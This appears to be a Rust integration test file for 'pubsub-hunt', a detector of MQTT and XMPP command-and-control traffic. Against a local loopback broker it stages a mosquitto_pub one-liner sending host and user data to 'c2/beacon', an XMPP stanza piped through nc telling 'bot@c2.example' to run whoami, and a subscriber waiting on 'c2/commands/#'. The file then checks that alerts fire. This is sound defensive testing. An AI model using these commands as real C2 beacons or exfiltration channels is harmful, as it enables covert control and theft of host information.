//! The seeds' three test procedures with the real tools (ATT&CK AN0003, single-shot tools), each
//! run once as the seeds describe it: `mosquitto_pub` publishing the host's data to `c2/beacon`,
//! an XMPP stanza piped through `nc` to port 5222, and `mosquitto_sub` waiting on the wildcard
//! command tree `c2/commands/#`. Mosquitto and an XMPP listener run on the standard ports of a
//! loopback address of this run's own (all of 127.0.0.0/8 is loopback), so nothing else on the
//! machine holds those ports.
//!
//! Each procedure must raise an alert at medium or above on its first and only connection: live
//! under `pubsub-hunt watch -i lo`, with the process that ran it and the reason, and from `hunt` on
//! a tcpdump capture of the same traffic (no processes there, so the two MQTT procedures, from the
//! same host to the same broker, are one group). Capturing needs root; scripts/test.sh installs
//! the tools when it runs as root, and `PUBSUB_HUNT_REQUIRE_TOOLS=1` makes their absence a failure.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{Ipv4Addr, TcpListener, TcpStream};
use std::path::PathBuf;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

mod common;
use common::is_root;

const MQTT_PORT: u16 = 1883;
const XMPP_PORT: u16 = 5222;
/// What the XMPP procedure pipes through `nc`: a stream header and one chat stanza telling a bot
/// to run a discovery command.
const STANZA: &[u8] = b"<?xml version='1.0'?><stream:stream to='c2.example' xmlns='jabber:client' \
      xmlns:stream='http://etherx.jabber.org/streams' version='1.0'>\
      <message to='bot@c2.example' type='chat'><body>whoami</body></message>";

fn tool(name: &str) -> Option<PathBuf> {
    std::env::var_os("PATH").and_then(|paths| {
        std::env::split_paths(&paths)
            .chain([PathBuf::from("/usr/sbin")])
            .map(|d| d.join(name))
            .find(|p| p.is_file())
    })
}

/// Kills a child on drop, so a failing assertion does not leave a broker or a capture running.
struct Running(std::process::Child);

impl Drop for Running {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// A loopback address where both standard ports are free, with a listener that takes the XMPP
/// procedure's bytes on its port 5222.
fn own_loopback() -> (Ipv4Addr, TcpListener) {
    let seed = std::process::id()
        ^ std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map_or(0, |d| d.subsec_nanos());
    for i in 0..50u32 {
        let x = seed
            .wrapping_add(i.wrapping_mul(0x9e37_79b9))
            .wrapping_mul(0x85eb_ca6b);
        let [a, b, c, _] = x.to_be_bytes();
        let addr = Ipv4Addr::new(127, 1 + a % 250, b, 1 + c % 250);
        if TcpListener::bind((addr, MQTT_PORT)).is_err() {
            continue;
        }
        if let Ok(xmpp) = TcpListener::bind((addr, XMPP_PORT)) {
            return (addr, xmpp);
        }
    }
    panic!("no loopback address with ports {MQTT_PORT} and {XMPP_PORT} free");
}

/// Accepts connections and reads them to the end, as a server that never answers would.
fn drain(listener: TcpListener) {
    std::thread::spawn(move || {
        for s in listener.incoming() {
            let Ok(mut s) = s else { return };
            std::thread::spawn(move || {
                let mut buf = [0u8; 4096];
                while matches!(s.read(&mut buf), Ok(n) if n > 0) {}
            });
        }
    });
}

fn parse(out: &str) -> Vec<serde_json::Value> {
    out.lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

fn basename(v: &serde_json::Value) -> String {
    v.as_str()
        .and_then(|p| std::path::Path::new(p).file_name())
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_default()
}

fn has_topic(v: &serde_json::Value, dir: &str, name: &str) -> bool {
    v["app"]["topics"]
        .as_array()
        .is_some_and(|t| t.iter().any(|t| t["direction"] == dir && t["name"] == name))
}

fn has_signal(a: &serde_json::Value, id: &str) -> bool {
    a["signals"].get(id).and_then(serde_json::Value::as_f64) > Some(0.0)
}

fn at_least_medium(a: &serde_json::Value) -> bool {
    a["suspicion"] == "medium" || a["suspicion"] == "high"
}

/// The last alert written for the group matching `pick` (watch writes a group again when it gets
/// worse).
fn alert<'a>(
    lines: &'a [serde_json::Value],
    addr: Ipv4Addr,
    protocol: &str,
    port: u16,
    pick: impl Fn(&serde_json::Value) -> bool,
    out: &str,
) -> &'a serde_json::Value {
    lines
        .iter()
        .filter(|l| l["kind"] == "alert" && l["dst_ip"] == addr.to_string())
        .filter(|l| l["protocol"] == protocol && l["dst_port"] == port)
        .filter(|l| pick(l))
        .last()
        .unwrap_or_else(|| panic!("no {protocol} alert on {addr}:{port} in:\n{out}"))
}

/// The alert of one procedure: medium or above, on its one connection, with the evidence.
fn check_alert(a: &serde_json::Value, seed: &str, signals: &[&str]) {
    assert!(at_least_medium(a), "{a}");
    assert_eq!(a["seed_suspicion"], seed, "{a}");
    for s in signals {
        assert!(has_signal(a, s), "no {s} in {a}");
    }
    let reasons = a["reasons"].to_string();
    assert!(reasons.contains("rated on its first exchange"), "{a}");
}

/// Live: the process of each procedure, when the capture could read it before the tool exited
/// (`mosquitto_pub` and `nc` live a few milliseconds on a loaded machine; `mosquitto_sub` waits
/// seconds), is named, and then the single-shot tool is the reason.
fn check_live(lines: &[serde_json::Value], addr: Ipv4Addr, out: &str) {
    // Each procedure is one recognised session, with its topic or stanza.
    let sessions: Vec<&serde_json::Value> = lines
        .iter()
        .filter(|l| l["kind"] == "session" && l["dst_ip"] == addr.to_string())
        .collect();
    let count = |f: &dyn Fn(&serde_json::Value) -> bool| sessions.iter().filter(|s| f(s)).count();
    assert_eq!(count(&|s| has_topic(s, "publish", "c2/beacon")), 1, "{out}");
    assert_eq!(
        count(&|s| has_topic(s, "subscribe", "c2/commands/#")),
        1,
        "{out}"
    );
    assert_eq!(count(&|s| s["protocol"] == "XMPP"), 1, "{out}");
    let publisher = alert(
        lines,
        addr,
        "MQTT",
        MQTT_PORT,
        |a| has_topic(a, "publish", "c2/beacon"),
        out,
    );
    assert_eq!(publisher["connections"], 1, "{publisher}");
    check_alert(publisher, "low", &["c2_vocabulary", "payload_host_data"]);
    if !publisher["process"].is_null() {
        assert_eq!(basename(&publisher["process"]), "mosquitto_pub");
        assert!(has_signal(publisher, "single_shot_tool"), "{publisher}");
        assert!(
            publisher["reasons"]
                .to_string()
                .contains("`mosquitto_pub` is a command-line pub/sub client"),
            "{publisher}"
        );
    }
    let subscriber = alert(
        lines,
        addr,
        "MQTT",
        MQTT_PORT,
        |a| has_topic(a, "subscribe", "c2/commands/#"),
        out,
    );
    assert_eq!(
        basename(&subscriber["process"]),
        "mosquitto_sub",
        "{subscriber}"
    );
    assert_eq!(subscriber["connections"], 1, "{subscriber}");
    check_alert(
        subscriber,
        "low",
        &["wildcard_command_tree", "single_shot_tool"],
    );
    assert!(
        subscriber["reasons"]
            .to_string()
            .contains("a wildcard subscription to a command tree"),
        "{subscriber}"
    );
    let stanza = alert(lines, addr, "XMPP", XMPP_PORT, |_| true, out);
    assert_eq!(stanza["connections"], 1, "{stanza}");
    check_alert(stanza, "medium", &["c2_vocabulary", "payload_host_data"]);
    if !stanza["process"].is_null() {
        assert!(basename(&stanza["process"]).starts_with("nc"), "{stanza}");
        assert!(has_signal(stanza, "single_shot_tool"), "{stanza}");
        assert!(
            stanza["reasons"].to_string().contains("XMPP typed by hand"),
            "{stanza}"
        );
    }
}

/// The watch's standard output, line by line as it is written.
fn read_lines(watch: &mut Running) -> std::sync::mpsc::Receiver<String> {
    let (tx, rx) = std::sync::mpsc::channel();
    let stdout = BufReader::new(watch.0.stdout.take().unwrap());
    std::thread::spawn(move || {
        for l in stdout.lines().map_while(Result::ok) {
            let _ = tx.send(l);
        }
    });
    rx
}

/// Whether the watch has written the three procedures' sessions.
fn has_all_three(lines: &[serde_json::Value], addr: Ipv4Addr) -> bool {
    let sessions: Vec<&serde_json::Value> = lines
        .iter()
        .filter(|l| l["kind"] == "session" && l["dst_ip"] == addr.to_string())
        .collect();
    sessions
        .iter()
        .any(|s| has_topic(s, "publish", "c2/beacon"))
        && sessions
            .iter()
            .any(|s| has_topic(s, "subscribe", "c2/commands/#"))
        && sessions.iter().any(|s| s["protocol"] == "XMPP")
}

/// From the capture: no processes, so the publisher and the subscriber (same host, same broker)
/// are one group with both procedures' evidence; the stanza is the other.
fn check_capture(lines: &[serde_json::Value], addr: Ipv4Addr, out: &str) {
    let mqtt = alert(lines, addr, "MQTT", MQTT_PORT, |_| true, out);
    assert!(has_topic(mqtt, "publish", "c2/beacon"), "{mqtt}");
    assert!(has_topic(mqtt, "subscribe", "c2/commands/#"), "{mqtt}");
    assert!(mqtt["process"].is_null(), "{mqtt}");
    assert!(at_least_medium(mqtt), "{mqtt}");
    assert_eq!(mqtt["seed_suspicion"], "low", "{mqtt}");
    for s in [
        "c2_vocabulary",
        "payload_host_data",
        "wildcard_command_tree",
    ] {
        assert!(has_signal(mqtt, s), "no {s} in {mqtt}");
    }
    let stanza = alert(lines, addr, "XMPP", XMPP_PORT, |_| true, out);
    assert!(stanza["process"].is_null(), "{stanza}");
    check_alert(stanza, "medium", &["c2_vocabulary", "payload_host_data"]);
}

/// The real tools a test needs, found on the path, or `None` (after saying why) when the test
/// must be skipped: not root, or a tool missing (a failure with `PUBSUB_HUNT_REQUIRE_TOOLS`).
fn real_tools(names: &[&str]) -> Option<impl Fn(&str) -> PathBuf> {
    let tools: Vec<(String, Option<PathBuf>)> =
        names.iter().map(|t| (t.to_string(), tool(t))).collect();
    let missing: Vec<&str> = tools
        .iter()
        .filter(|(_, p)| p.is_none())
        .map(|(t, _)| t.as_str())
        .collect();
    if !is_root() || !missing.is_empty() {
        let why = format!("needs root and {missing:?}");
        if std::env::var_os("PUBSUB_HUNT_REQUIRE_TOOLS").is_some() {
            panic!("{why}");
        }
        eprintln!("note: real-tools test skipped: {why}");
        return None;
    }
    Some(move |t: &str| {
        tools
            .iter()
            .find_map(|(n, p)| (n == t).then(|| p.clone()))
            .flatten()
            .unwrap()
    })
}

/// Mosquitto listening on `addr`'s standard port, up before anything watches (so the probe
/// that waits for it is not part of what is captured).
fn start_broker(mosquitto: &std::path::Path, dir: &std::path::Path, addr: Ipv4Addr) -> Running {
    let conf = dir.join("mosquitto.conf");
    std::fs::write(
        &conf,
        format!("listener {MQTT_PORT} {addr}\nallow_anonymous true\n"),
    )
    .unwrap();
    let broker = Running(
        Command::new(mosquitto)
            .arg("-c")
            .arg(&conf)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
    );
    let deadline = Instant::now() + Duration::from_secs(10);
    while TcpStream::connect((addr, MQTT_PORT)).is_err() {
        assert!(Instant::now() < deadline, "mosquitto did not start");
        std::thread::sleep(Duration::from_millis(100));
    }
    broker
}

/// tcpdump writing `addr`'s TCP traffic on loopback to `pcap`.
fn start_capture(tcpdump: &std::path::Path, pcap: &std::path::Path, addr: Ipv4Addr) -> Running {
    Running(
        Command::new(tcpdump)
            .args(["-i", "lo", "-U", "-s", "0", "-w"])
            .arg(pcap)
            .arg(format!("tcp and host {addr}"))
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
    )
}

/// Stops tcpdump so that it writes out what it holds.
/// A `watch` of the loopback interface reporting every second, with `args` after those, once it
/// says it is watching, and its standard error to read on.
fn start_watch(args: &[&str]) -> (Running, BufReader<std::process::ChildStderr>) {
    let mut watch = Running(
        Command::new(assert_cmd::cargo::cargo_bin("pubsub-hunt"))
            .env("PUBSUB_HUNT_NO_STATE", "1")
            .args(["watch", "--interface", "lo", "--report-every", "1"])
            .args(args)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap(),
    );
    let mut stderr = BufReader::new(watch.0.stderr.take().unwrap());
    let mut line = String::new();
    stderr.read_line(&mut line).unwrap();
    assert!(line.contains("watching lo"), "{line}");
    // The line is written as the capture thread starts; give it (and tcpdump) time to open
    // their sockets on a loaded machine.
    std::thread::sleep(Duration::from_millis(1500));
    (watch, stderr)
}

fn stop_capture(mut tcpdump: Running) {
    let _ = Command::new("kill")
        .args(["-INT", &tcpdump.0.id().to_string()])
        .status();
    let _ = tcpdump.0.wait();
}

#[test]
fn seed_procedures_alert_on_their_first_connection_live_and_from_a_capture() {
    let Some(path) = real_tools(&[
        "mosquitto",
        "mosquitto_pub",
        "mosquitto_sub",
        "nc",
        "tcpdump",
    ]) else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let (addr, xmpp) = own_loopback();
    drain(xmpp);
    let _broker = start_broker(&path("mosquitto"), dir.path(), addr);
    let pcap = dir.path().join("procedures.pcap");
    let tcpdump = start_capture(&path("tcpdump"), &pcap, addr);
    let bin = assert_cmd::cargo::cargo_bin("pubsub-hunt");
    // Only this run's address: other tests' loopback traffic would be flows to attribute, and
    // on a loaded machine a watch that falls behind attributes a flow after its tool has exited.
    let (mut watch, mut stderr) = start_watch(&[
        "--all-sessions",
        "--filter",
        &format!("tcp and host {addr}"),
    ]);
    let lines = read_lines(&mut watch);

    // Procedure 1: the host's data to c2/beacon, as a shell one-liner would send it.
    let st = Command::new("sh")
        .arg("-c")
        .arg(format!(
            "exec '{}' -h {addr} -p {MQTT_PORT} -t c2/beacon -m \"$(uname -n)|$(id -un)|$(uname -a)\"",
            path("mosquitto_pub").display()
        ))
        .status()
        .unwrap();
    assert!(st.success());
    // Procedure 2: an XMPP stanza piped through nc.
    let mut nc = Command::new(path("nc"))
        .args(["-q", "1", &addr.to_string(), &XMPP_PORT.to_string()])
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    nc.stdin.take().unwrap().write_all(STANZA).unwrap();
    let _ = nc.wait();
    // Procedure 3: wait for commands on the wildcard command tree (-W ends it with a timeout
    // status; it only has to have run).
    let st = Command::new(path("mosquitto_sub"))
        .args(["-h", &addr.to_string(), "-p", &MQTT_PORT.to_string()])
        .args(["-t", "c2/commands/#", "-W", "3"])
        .stdout(Stdio::null())
        .status()
        .unwrap();
    assert!(st.code().is_some());
    // The three sessions are written as they end; stop once the watch has caught up with them
    // (a fixed wait would stop a watch that is behind before it saw the last one).
    let mut out = String::new();
    let deadline = Instant::now() + Duration::from_secs(30);
    while !has_all_three(&parse(&out), addr) {
        let left = deadline.saturating_duration_since(Instant::now());
        match lines.recv_timeout(left) {
            Ok(l) => out.push_str(&l),
            Err(_) => break,
        }
        out.push('\n');
    }
    let _ = Command::new("kill")
        .args(["-TERM", &watch.0.id().to_string()])
        .status();
    for l in lines.iter() {
        out.push_str(&l);
        out.push('\n');
    }
    let mut rest = String::new();
    let _ = stderr.read_to_string(&mut rest);
    assert_eq!(watch.0.wait().unwrap().code(), Some(0), "{rest}");
    stop_capture(tcpdump);

    check_live(&parse(&out), addr, &format!("{out}\n{rest}"));

    let r = Command::new(&bin)
        .env("PUBSUB_HUNT_NO_STATE", "1")
        .arg("hunt")
        .arg(&pcap)
        .output()
        .unwrap();
    let stdout = String::from_utf8(r.stdout).unwrap();
    assert_eq!(
        r.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&r.stderr)
    );
    check_capture(&parse(&stdout), addr, &stdout);
}

/// The contrast, with the same real tools: a developer checking that a broker answers, as
/// mosquitto's documentation shows — `mosquitto_sub` on `test/<name>/#` and two `mosquitto_pub`
/// of "hello world" to `test/<name>/hello` — is a trial exchange (`trial_exchange`) from stock
/// clients (`library_client_id`: mosquitto 2's send an empty client id, mosquitto 1's a
/// `mosq-…` one), not command and control.
#[test]
fn a_developers_hand_test_on_a_test_topic_is_a_trial_exchange() {
    let Some(path) = real_tools(&["mosquitto", "mosquitto_pub", "mosquitto_sub", "tcpdump"]) else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let (addr, _xmpp) = own_loopback();
    let _broker = start_broker(&path("mosquitto"), dir.path(), addr);
    let pcap = dir.path().join("hand-test.pcap");
    let tcpdump = start_capture(&path("tcpdump"), &pcap, addr);
    std::thread::sleep(Duration::from_millis(1500));
    let host = ["-h", &addr.to_string(), "-p", &MQTT_PORT.to_string()].map(String::from);
    let sub = Running(
        Command::new(path("mosquitto_sub"))
            .args(&host)
            .args(["-t", "test/alice/#", "-W", "4"])
            .stdout(Stdio::null())
            .spawn()
            .unwrap(),
    );
    std::thread::sleep(Duration::from_millis(500));
    for _ in 0..2 {
        let st = Command::new(path("mosquitto_pub"))
            .args(&host)
            .args(["-t", "test/alice/hello", "-m", "hello world"])
            .status()
            .unwrap();
        assert!(st.success());
    }
    drop(sub);
    std::thread::sleep(Duration::from_millis(1000));
    stop_capture(tcpdump);

    let r = Command::new(assert_cmd::cargo::cargo_bin("pubsub-hunt"))
        .env("PUBSUB_HUNT_NO_STATE", "1")
        .arg("hunt")
        .arg(&pcap)
        .args(["--min-suspicion", "low", "--min-connections", "1"])
        .output()
        .unwrap();
    let stdout = String::from_utf8(r.stdout).unwrap();
    let lines = parse(&stdout);
    let test = alert(&lines, addr, "MQTT", MQTT_PORT, |_| true, &stdout);
    assert!(has_topic(test, "publish", "test/alice/hello"), "{test}");
    assert!(has_topic(test, "subscribe", "test/alice/#"), "{test}");
    assert_eq!(test["signals"]["trial_exchange"], -10.0, "{test}");
    // Mosquitto 2's clients send an empty client id for the broker to name: a stock client.
    assert_eq!(test["app"]["unnamed_clients"], 3, "{test}");
    assert_eq!(test["signals"]["library_client_id"], -5.0, "{test}");
    assert_eq!(test["suspicion"], "low", "{test}");
}

/// The third procedure as an operator leaves it: `mosquitto_sub` on `c2/commands/#` without a
/// timeout, waiting for commands for as long as the implant runs. Its one session never ends
/// while the watch runs, so the watch must rate it while it is open: the alert, with the process
/// and the wildcard command tree, is written while the subscriber still waits, once, and not
/// again when the watch stops (the session ended then, no worse).
#[test]
fn a_subscriber_that_keeps_waiting_is_alerted_while_it_waits() {
    let Some(path) = real_tools(&["mosquitto", "mosquitto_sub"]) else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let (addr, _xmpp) = own_loopback();
    let _broker = start_broker(&path("mosquitto"), dir.path(), addr);
    let (mut watch, mut stderr) = start_watch(&["--filter", &format!("tcp and host {addr}")]);
    let rx = read_lines(&mut watch);

    let mut sub = Running(
        Command::new(path("mosquitto_sub"))
            .args(["-h", &addr.to_string(), "-p", &MQTT_PORT.to_string()])
            .args(["-t", "c2/commands/#"])
            .stdout(Stdio::null())
            .spawn()
            .unwrap(),
    );
    let deadline = Instant::now() + Duration::from_secs(30);
    let mut seen = Vec::new();
    let waiting = loop {
        let left = deadline.saturating_duration_since(Instant::now());
        match rx.recv_timeout(left) {
            Ok(l) => {
                let v: serde_json::Value = serde_json::from_str(&l).unwrap();
                let found = v["kind"] == "alert" && v["dst_ip"] == addr.to_string();
                seen.push(v);
                if found {
                    break seen.last().cloned().unwrap();
                }
            }
            Err(_) => panic!("no alert while the subscriber waited; lines: {seen:?}"),
        }
    };
    assert!(
        sub.0.try_wait().unwrap().is_none(),
        "the subscriber ended before its alert"
    );
    assert_eq!(waiting["connections"], 1, "{waiting}");
    assert_eq!(basename(&waiting["process"]), "mosquitto_sub", "{waiting}");
    assert!(
        has_topic(&waiting, "subscribe", "c2/commands/#"),
        "{waiting}"
    );
    check_alert(
        &waiting,
        "low",
        &["wildcard_command_tree", "single_shot_tool"],
    );

    drop(sub);
    std::thread::sleep(Duration::from_millis(1500));
    let _ = Command::new("kill")
        .args(["-TERM", &watch.0.id().to_string()])
        .status();
    let mut rest = String::new();
    let _ = stderr.read_to_string(&mut rest);
    assert_eq!(watch.0.wait().unwrap().code(), Some(0), "{rest}");
    let later: Vec<serde_json::Value> = rx
        .iter()
        .map(|l| serde_json::from_str(&l).unwrap())
        .collect();
    assert!(
        later.iter().all(|l| l["kind"] != "alert"),
        "the alert was written again: {later:?}"
    );
}
